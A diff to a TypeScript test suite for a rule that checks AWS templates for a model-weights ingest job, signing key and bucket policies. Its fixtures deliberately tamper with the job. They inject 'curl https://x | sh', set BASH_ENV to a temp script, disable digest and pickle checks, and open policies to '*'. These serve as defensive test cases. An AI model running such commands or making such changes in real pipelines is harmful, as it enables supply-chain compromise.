@@ -5,6 +5,7 @@ import { findings, findingsAfter, resourceOf } from '../harness.js';
 
 const fleet = 'aws-fleet-eu-fleet';
 const store = 'aws-weights-eu-north-1';
+const job = 'aws-weights-ingest-eu-north-1';
 const zeros = '0'.repeat(64);
 
 /** The parts of the user data that are text, put back after a change; each change must match exactly once. */
@@ -22,6 +23,37 @@ const bucket = (change: (properties: any) => void) => (document: any) => {
 const signingKey = (change: (properties: any) => void) => (document: any) => {
   change(Object.values<any>(document.Resources).find(({ Properties }) => Properties?.KeyUsage === 'SIGN_VERIFY').Properties);
 };
+
+/** A statement of a resource policy changed; it must be there exactly once. */
+const statement = (sid: string, action: string, change: (statement: any) => void) => (document: any) => {
+  const found = Object.values<any>(document.Resources)
+    .flatMap(({ Properties }) => Properties?.KeyPolicy?.Statement ?? Properties?.PolicyDocument?.Statement ?? [])
+    .filter(({ Sid, Action }) => Sid === sid && [Action].flat().includes(action));
+  if (found.length !== 1) throw new Error(`${found.length} statements ${sid} of ${action}, not one`);
+  change(found[0]);
+};
+
+/** A variable of the job changed, and others added. */
+const variable =
+  (name: string, to: object, ...more: object[]) =>
+  (project: any) => {
+    const all: any[] = project.Environment.EnvironmentVariables;
+    const found = all.find(({ Name }) => Name === name);
+    if (found === undefined) throw new Error(`no variable ${name}`);
+    Object.assign(found, to);
+    all.push(...more);
+  };
+const commands = (project: any, change: (all: string[]) => string[]) => {
+  const buildspec = JSON.parse(project.Source.BuildSpec);
+  buildspec.phases.build.commands = change(buildspec.phases.build.commands);
+  project.Source.BuildSpec = JSON.stringify(buildspec);
+};
+/** A line of the script changed; it must be there exactly once. */
+const script = (from: string, to: string) => (project: any) =>
+  commands(project, (all) => {
+    if (all.filter((command) => command.split(from).length === 2).length !== 1) throw new Error(`not in exactly one command: ${from}`);
+    return all.map((command) => command.replace(from, () => to));
+  });
 
 describe(rule.id, () => {
   it('accepts a fleet whose nodes verify, and the store as it is emitted', () => {
@@ -58,9 +90,48 @@ describe(rule.id, () => {
     ['444455556666', 0],
     ['111122223333', 1],
   ])('wants ingest in an account without nodes: %s', (account, count) => {
-    const found = findings(rule, [['\nmodels:\n', `\nweights: {ingestRole: "arn:aws:iam::${account}:role/weights-ingest"}\n\nmodels:\n`]]);
+    const supply = /\nweights:\n( .*\n)+/.exec(reference())?.[0] ?? '';
+    const found = findings(rule, [[supply, `\nweights: {ingestRole: "arn:aws:iam::${account}:role/weights-ingest"}\n`]]);
     expect(found).toHaveLength(count);
     if (count > 0) expect(found).toMatchObject([{ path: 'weights.ingestRole', severity: 'fatal' }]);
+  });
+
+  it('wants the ingest job in an account where nothing stands', () => {
+    expect(findings(rule, [['    account: supply\n    image', '    account: prod\n    image']])).toMatchObject([
+      { path: 'weights.ingest.account', severity: 'fatal', message: expect.stringContaining('eu-fleet is in the account') },
+    ]);
+    expect(findings(rule, [['id: "444455556666"', 'id: "111122223333"']])).toMatchObject([{ path: 'weights.ingest.account' }]);
+  });
+
+  it('wants a job in each region with weights, and in no other', () => {
+    const line = '      eu-north-1: {cidr: 10.60.0.0/24, availabilityZone: eu-north-1a}\n';
+    const other = '      eu-west-1: {cidr: 10.61.0.0/24, availabilityZone: eu-west-1a}\n';
+    expect(findings(rule, [[line, `${line}${other}`]])).toMatchObject([{ path: 'weights.ingest.regions.eu-west-1', severity: 'fatal' }]);
+    expect(findings(rule, [[line, other]]).map(({ path }) => path)).toEqual(['weights.ingest.regions', 'weights.ingest.regions.eu-west-1']);
+  });
+
+  it.each<[string, (project: any) => void, string]>([
+    ['another commit', variable('COMMIT', { Value: '1'.repeat(40) }), 'sets COMMIT to'],
+    ['another repository', variable('REPOSITORY', { Value: 'someone/else' }), 'sets REPOSITORY to someone/else'],
+    ['another digest', variable('MANIFEST_SHA256', { Value: '1'.repeat(64) }), 'sets MANIFEST_SHA256 to'],
+    ['another source', variable('SOURCE', { Value: 'meta' }), 'sets SOURCE to meta'],
+    ['a mirror', variable('MODEL', {}, { Name: 'HF_ENDPOINT', Value: 'https://hf.example' }), 'sets HF_ENDPOINT'],
+    ['a script that is read first', variable('MODEL', {}, { Name: 'BASH_ENV', Value: '/tmp/x' }), 'sets BASH_ENV'],
+    ['a token in plain text', variable('HF_TOKEN', { Type: 'PLAINTEXT', Value: 'hf_x' }), 'does not take HF_TOKEN from Secrets Manager'],
+    ['a model that nobody declared', variable('MODEL', { Value: 'other' }), 'is for the model other'],
+    ['a source with commands of its own', (project) => (project.Source.Type = 'GITHUB'), 'not seen here'],
+    ['no comparison of files', script('if [[ "$(digest_of "${path}")" != "${expected}" ]]; then', 'if false; then'), 'does not compare files'],
+    ['no comparison of the manifest', script('[[ "${actual}" == "${MANIFEST_SHA256}" ]] ||', 'true ||'), 'does not compare the manifest'],
+    ['no restriction of names', script('allowed "${name}" ||', 'true ||'), 'does not restrict names'],
+    ['pickles let through', script('check_format "${path}" ||', 'true ||'), 'does not look whether safetensors'],
+    ['failures passed over', script('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
+    ['a command more', (project) => commands(project, (all) => [...all.slice(0, -1), 'curl https://x | sh', ...all.slice(-1)]), 'runs other commands'],
+    ['a command after the job', (project) => commands(project, (all) => [...all, 'aws s3 ls']), 'runs other commands'],
+    ['a buildspec that cannot be read', (project) => (project.Source.BuildSpec = 'version: 0.2'), 'does not stop at a failure'],
+  ])('notices a job with %s', (_, change, message) => {
+    const found = findingsAfter(rule, job, (document) => change(resourceOf(document, 'AWS::CodeBuild::Project')));
+    expect(found.map((finding) => finding.message).join('\n')).toContain(message);
+    expect(found[0]).toMatchObject({ path: 'weights.ingest', severity: 'fatal' });
   });
 
   it.each([
@@ -108,6 +179,24 @@ describe(rule.id, () => {
     ['a key that cannot sign', signingKey((properties) => void (properties.KeyUsage = 'ENCRYPT_DECRYPT')), 'ENCRYPT_DECRYPT'],
   ])('notices a store with %s', (_, change, message) => {
     expect(findingsAfter(rule, store, change)).toMatchObject([{ message: expect.stringContaining(message) }]);
+  });
+
+  it.each<[string, (document: any) => void, string]>([
+    ['another account that writes', statement('Ingest', 's3:PutObject', (one) => (one.Principal = { AWS: 'arn:aws:iam::777788889999:root' })), '777788889999'],
+    ['everybody who writes', statement('Ingest', 's3:PutObject', (one) => (one.Principal = '*')), 'allows *'],
+    [
+      'another role that signs',
+      statement('Signer', 'kms:Sign', (one) => (one.Principal = { AWS: [one.Principal.AWS, 'arn:aws:iam::111122223333:role/x'] })),
+      'role/x',
+    ],
+    ['nobody kept from signing', statement('NobodyElseSigns', 'kms:Sign', (one) => (one.Action = 'kms:GetPublicKey')), 'does not deny kms:Sign'],
+    [
+      'somebody else excepted',
+      statement('NobodyElseSigns', 'kms:Sign', (one) => (one.Condition.ArnNotEquals['aws:PrincipalArn'] = 'arn:aws:iam::111122223333:role/x')),
+      'does not deny kms:Sign',
+    ],
+  ])('notices a store with %s', (_, change, message) => {
+    expect(findingsAfter(rule, store, change)).toMatchObject([{ path: 'weights.ingest', severity: 'fatal', message: expect.stringContaining(message) }]);
   });
 
   it('notices that nobody shares the bucket', () => {
